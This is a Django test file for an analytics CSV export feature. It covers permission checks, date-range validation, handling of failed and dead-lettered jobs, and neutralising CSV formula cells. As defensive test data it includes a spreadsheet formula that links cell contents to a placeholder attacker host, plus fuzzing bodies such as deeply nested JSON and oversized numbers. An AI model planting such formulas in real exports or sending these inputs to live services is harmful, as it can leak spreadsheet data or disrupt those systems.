"""Exports: only for users who may view events (API and admin alike), only for ranges an
export can cover, every job ending done or failed, and no cell that opens as a formula."""

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from apps.analytics.models import Event, ExportJob
from apps.analytics.services import export_run
from apps.analytics.tasks import run_export
from tests.factories import dead_letter_roles
from tests.fixtures import wait_for
from workers.core.signals import task_dead_lettered
from workers.dead_letters.models import DeadLetter

EXPORTS_URL = "/api/exports/"
ADD_URL = "/admin/analytics/exportjob/add/"
A_RANGE = {"date_from": "2026-11-01", "date_to": "2026-11-30"}


def user(name: str, *codenames: str, staff: bool = False, group: str = ""):
    account = get_user_model().objects.create_user(name, password=f"pw-{name}-123456",
                                                   is_staff=staff)
    account.user_permissions.add(*Permission.objects.filter(
        content_type__app_label="analytics", codename__in=codenames))
    if group:
        account.groups.add(Group.objects.get(name=group))
    return account


def signed_in(account) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(account)
    return client


def request_export(client: Client, body: object):
    payload = body if isinstance(body, bytes) else json.dumps(body)
    return client.post(EXPORTS_URL, payload, content_type="application/json")


@pytest.mark.django_db
def test_exports_need_the_permission_to_view_events_through_the_api_and_the_admin():
    dead_letter_roles()
    viewer = user("dlq-viewer", staff=True, group="Dead-letter viewers")
    staff = user("staff", staff=True)
    adder = user("adder", "add_exportjob", staff=True)  # may add jobs, not see events
    for account in (viewer, staff, adder):
        client = signed_in(account)
        assert request_export(client, A_RANGE).status_code == 403, account
        assert client.get(ADD_URL).status_code == 403, account
        assert client.post(ADD_URL, A_RANGE).status_code == 403, account
    assert not ExportJob.objects.exists()

    analyst = user("analyst", "view_event")
    response = request_export(signed_in(analyst), A_RANGE)
    assert response.status_code == 202
    operator = user("operator", "view_event", "add_exportjob", staff=True)
    operator_client = signed_in(operator)
    assert operator_client.get(ADD_URL).status_code == 200
    assert operator_client.post(ADD_URL, A_RANGE).status_code == 302
    assert sorted(ExportJob.objects.values_list("owner__username", flat=True)) == [
        "analyst", "operator"]


@pytest.mark.django_db
def test_a_download_is_for_its_owner_while_they_may_view_events_or_for_staff_with_the_view():
    owner = user("owner", "view_event")
    job = ExportJob.objects.create(owner=owner, date_from=date(2026, 1, 1),
                                   date_to=date(2026, 1, 2), status=ExportJob.Status.DONE)
    job.file.save("events-owner.csv", ContentFile(b"id,name,occurred_at,properties\n"))
    url = reverse("analytics-export-download", args=[job.pk])
    assert signed_in(owner).get(url).status_code == 200

    owner.user_permissions.clear()
    owner = get_user_model().objects.get(pk=owner.pk)  # no cached permissions
    assert signed_in(owner).get(url).status_code == 403

    not_staff = user("not-staff", "view_exportjob", "view_event")
    staff_viewer = user("staff-viewer", "view_exportjob", staff=True)
    assert signed_in(not_staff).get(url).status_code == 404
    assert signed_in(staff_viewer).get(url).status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("body", [
    {"date_from": "9999-12-30", "date_to": "9999-12-31"},
    {"date_from": "2026-11-30", "date_to": "9999-12-31"},
    {"date_from": "0001-01-01", "date_to": "0001-12-31"},
    {"date_from": "1999-12-31", "date_to": "2000-01-01"},
    {"date_from": "2100-12-31", "date_to": "2101-01-01"},
    {"date_from": "2026-12-02", "date_to": "2026-12-01"},
    {"date_from": "2020-01-01", "date_to": "2026-12-01"},
    {"date_from": 20261101, "date_to": "2026-11-30"},
    {"date_from": ["2026-11-01"], "date_to": "2026-11-30"},
    {"date_from": "2026-11-01\u0000", "date_to": "2026-11-30"},
    b"[" * 100_000 + b"]" * 100_000,
    b'{"date_from": ' + b"9" * 5000 + b', "date_to": "2026-11-30"}',
    b'{"date_from": NaN, "date_to": "2026-11-30"}',
    b'{"date_from": "2026-11-01", "date_to": "2026-11-30", "x": "\\ud800"}',
    b'{"date_from": "2026-11-01", "date_to": "2026-11-30", "pad": "' + b"x" * 2000 + b'"}',
    b"\xff\xfe",
])
def test_ranges_an_export_cannot_cover_are_refused_and_nothing_is_stored(body):
    response = request_export(signed_in(user("analyst", "view_event")), body)
    assert response.status_code == 400, response.content[:200]
    assert response.json()["error"]
    assert not ExportJob.objects.exists()


@pytest.mark.django_db
def test_the_admin_form_refuses_the_same_ranges():
    client = signed_in(user("operator", "view_event", "add_exportjob", staff=True))
    response = client.post(ADD_URL, {"date_from": "2026-11-30", "date_to": "9999-12-31"})
    assert response.status_code == 200  # the form again, with the reason
    assert "between 2000-01-01 and 2100-12-31" in response.content.decode()
    assert not ExportJob.objects.exists()


@pytest.mark.django_db
def test_an_export_that_cannot_run_ends_failed_not_pending():
    """A job stored before the range was checked (or by hand): the export fails, and says
    why, instead of staying pending while its job sits in the dead-letter table."""
    owner = user("owner", "view_event")
    job = ExportJob.objects.create(owner=owner, date_from=date(9999, 12, 30),
                                   date_to=date(9999, 12, 31))
    with pytest.raises(OverflowError):
        export_run(export_id=job.pk)
    job.refresh_from_db()
    assert job.status == ExportJob.Status.FAILED
    assert job.error
    assert job.finished_at is not None


@pytest.mark.django_db
@pytest.mark.parametrize("status", [ExportJob.Status.PENDING, ExportJob.Status.RUNNING])
def test_an_export_whose_job_is_dead_lettered_ends_failed(status):
    """A lost worker or a hard time limit never reaches the export's own error handling."""
    owner = user("owner", "view_event")
    job = ExportJob.objects.create(owner=owner, date_from=date(2026, 1, 1),
                                   date_to=date(2026, 1, 2), status=status)
    done = ExportJob.objects.create(owner=owner, date_from=date(2026, 1, 1),
                                    date_to=date(2026, 1, 2), status=ExportJob.Status.DONE)
    for export in (job, done):
        task_dead_lettered.send(run_export.name, dead_letter_id=7, task_id="t", args=[export.pk],
                                kwargs={})
    job.refresh_from_db()
    done.refresh_from_db()
    assert (job.status, job.error) == (ExportJob.Status.FAILED,
                                       "the export job failed (dead letter 7)")
    assert done.status == ExportJob.Status.DONE


def test_a_failing_export_job_on_a_worker_ends_failed_and_dead_lettered(live_workers):
    owner = user("owner", "view_event")
    job = ExportJob.objects.create(owner=owner, date_from=date(9999, 12, 30),
                                   date_to=date(9999, 12, 31))

    run_export.delay(job.pk)

    wait_for(lambda: DeadLetter.objects.filter(task_name=run_export.name).exists(),
             what="the export job's dead letter")
    job.refresh_from_db()
    assert job.status == ExportJob.Status.FAILED


@pytest.mark.django_db
def test_csv_cells_that_would_open_as_formulas_are_neutralised():
    day = datetime(2026, 11, 20, 12, tzinfo=UTC)
    names = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "-2-3", "+1", "@SUM(A1)",
             "\t=1", "\r=1", "signup"]
    Event.objects.bulk_create([Event(name=name, occurred_at=day, properties={"n": n})
                               for n, name in enumerate(names)])
    job = ExportJob.objects.create(owner=user("owner", "view_event"), date_from=day.date(),
                                   date_to=day.date())

    export_run(export_id=job.pk)

    job.refresh_from_db()
    with job.file.open("rb") as exported:  # bytes: text mode would turn CR into LF
        rows = list(csv.reader(io.StringIO(exported.read().decode(), newline="")))
    assert [row[1] for row in rows[1:]] == [f"'{name}" for name in names[:-1]] + ["signup"]


@pytest.mark.django_db
@settings(max_examples=60, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(body=st.one_of(
    st.fixed_dictionaries({"date_from": st.dates().map(str), "date_to": st.dates().map(str)}),
    st.fixed_dictionaries({"date_from": st.dates(date(1999, 1, 1), date(2101, 12, 31)).map(str),
                           "date_to": st.dates(date(1999, 1, 1), date(2101, 12, 31)).map(str)}),
    st.binary(max_size=200),
    st.integers(2, 100_000).map(lambda n: b"[" * n + b"]" * n),
    st.integers(4000, 6000).map(lambda n: b'{"date_from": ' + b"9" * n + b"}"),
    st.sampled_from([b"NaN", b'{"date_from": Infinity}', b'{"date_to": 1e999}',
                     b'{"date_from": "\\u0000"}', b'{"date_from": "\\udfff"}']),
    st.dictionaries(st.text(max_size=10), st.text(max_size=20) | st.integers(), max_size=3),
))
def test_hostile_export_requests_never_answer_5xx_and_a_refusal_stores_nothing(body):
    analyst, _ = get_user_model().objects.get_or_create(username="hypothesis-analyst")
    analyst.user_permissions.add(Permission.objects.get(codename="view_event",
                                                        content_type__app_label="analytics"))
    client = signed_in(analyst)
    before = ExportJob.objects.count()

    response = request_export(client, body)

    assert response.status_code < 500, response.content[:300]
    if response.status_code >= 400:
        assert ExportJob.objects.count() == before
    else:
        job = ExportJob.objects.latest("pk")
        assert date(2000, 1, 1) <= job.date_from <= job.date_to <= date(2100, 12, 31)
